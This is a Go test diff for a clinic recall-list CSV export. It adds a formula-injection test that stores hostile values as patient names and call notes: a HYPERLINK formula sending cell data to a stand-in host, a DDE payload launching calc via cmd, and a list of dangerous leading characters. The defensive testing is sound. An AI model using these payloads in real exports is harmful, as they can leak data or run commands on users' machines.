@@ -133,7 +133,7 @@ func TestRecallCSV(t *testing.T) {
 	if err := data.RecallCSV(&buf, list); err != nil {
 		t.Fatal(err)
 	}
-	if got, want := buf.String(), `"O'Brien, ""Zo""",+44 7700 900123,yes,`; !strings.Contains(got, want) {
+	if got, want := buf.String(), `"O'Brien, ""Zo""",'+44 7700 900123,yes,`; !strings.Contains(got, want) {
 		t.Errorf("CSV =\n%s\nwant it to contain %s", got, want)
 	}
 	rows, err := csv.NewReader(&buf).ReadAll()
@@ -143,7 +143,7 @@ func TestRecallCSV(t *testing.T) {
 	if len(rows) != 2 {
 		t.Fatalf("rows = %q, want header and one row", rows)
 	}
-	want := []string{`O'Brien, "Zo"`, "+44 7700 900123", "yes", list[0].Reason, "2026-11-25", "3", "2026-11-27 16:05", "Said \"call back\"\nafter 5"}
+	want := []string{`O'Brien, "Zo"`, "'+44 7700 900123", "yes", list[0].Reason, "2026-11-25", "3", "2026-11-27 16:05", "Said \"call back\"\nafter 5"}
 	for i := range want {
 		if rows[1][i] != want[i] {
 			t.Errorf("column %s = %q, want %q", rows[0][i], rows[1][i], want[i])
@@ -240,5 +240,43 @@ func TestRecallCalls(t *testing.T) {
 	}
 	if got, want := notes, map[int64]string{first.ID: "Will ring back on Monday", second.ID: ""}; !reflect.DeepEqual(got, want) {
 		t.Errorf("call notes by series = %v, want %v", got, want)
+	}
+}
+
+// TestRecallCSVFormulaInjection: a name or note that a spreadsheet would
+// run as a formula is exported as text, whatever it starts with.
+func TestRecallCSVFormulaInjection(t *testing.T) {
+	ctx := context.Background()
+	c := mustClinic(t)
+	p := validPatient()
+	p.FirstName, p.LastName = `=HYPERLINK("http://x.example/?"&A1`, `"Call me")`
+	p = mustCreate(t, c.s, p)
+	ts := mustTreated(t, c, p, date(2026, 10, 28))
+	c.signIn(c.receptionist)
+	for i, note := range []string{"@SUM(1+1)*cmd|' /C calc'!A0", " =1+1", "-2+3", "+44 7700 900123"} {
+		c.s.Now = func() time.Time { return fixedNow.Add(time.Duration(i) * time.Minute) }
+		if err := c.s.MarkCalled(ctx, p.ID, ts.ID, c.receptionist.ID, note); err != nil {
+			t.Fatal(err)
+		}
+		list, err := c.s.Recall(ctx, fixedNow)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var buf bytes.Buffer
+		if err := data.RecallCSV(&buf, list); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&buf).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("CSV rows = %q, %v", rows, err)
+		}
+		for i, cell := range rows[1] {
+			if trimmed := strings.TrimLeft(cell, " "); trimmed != "" && strings.ContainsRune("=+-@\t\r", rune(trimmed[0])) {
+				t.Errorf("column %s = %q, a spreadsheet would run it", rows[0][i], cell)
+			}
+		}
+		if got, want := rows[1][7], "'"+strings.TrimSpace(note); got != want {
+			t.Errorf("call note = %q, want %q", got, want)
+		}
 	}
 }
